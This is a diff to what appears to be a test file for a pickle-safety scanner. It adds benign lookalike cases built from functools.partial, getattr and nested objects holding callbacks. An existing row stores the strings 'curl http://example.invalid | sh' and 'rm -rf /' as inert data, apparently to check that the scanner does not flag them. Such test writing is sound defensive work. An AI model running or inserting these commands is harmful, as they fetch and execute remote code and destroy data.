@@ -39,7 +39,25 @@ _STOP_WORDS = [
 ] * 40
 _DTYPE = Build(call("numpy", "dtype", "f4", False, True), (3, "<", None, None, None, -1, -1, 0))
 
+_MADE = call("builtins", "getattr", Name("package.module", "Number"), "__new__")
+_KEYWORDS = Build(
+    call("functools", "partial", _MADE), (_MADE, (Name("package.module", "Number"), 3), {"precision": 53}, None)
+)
+_CALLBACK = {"callback": Name("math", "sqrt")}
+
 LOOKALIKES: tuple[Benign, ...] = (
+    _row("keywords-below-protocol-4", Call(_KEYWORDS), "As pickle writes __getnewargs_ex__ with keywords.", 2),
+    _row(
+        "dict-in-a-dict-with-callbacks",
+        Build(
+            Fill(
+                New(Name("package.module", "Registry")),
+                (("a", Build(New(Name("package.module", "Registry")), _CALLBACK)),),
+            ),
+            _CALLBACK,
+        ),
+        "Instances of one class in one another, which hold functions.",
+    ),
     _row("empty-dict", {}, "Nothing at all."),
     _row(
         "text-command", {"cmd": "curl http://example.invalid | sh", "note": "rm -rf /"}, "A command that nobody runs."
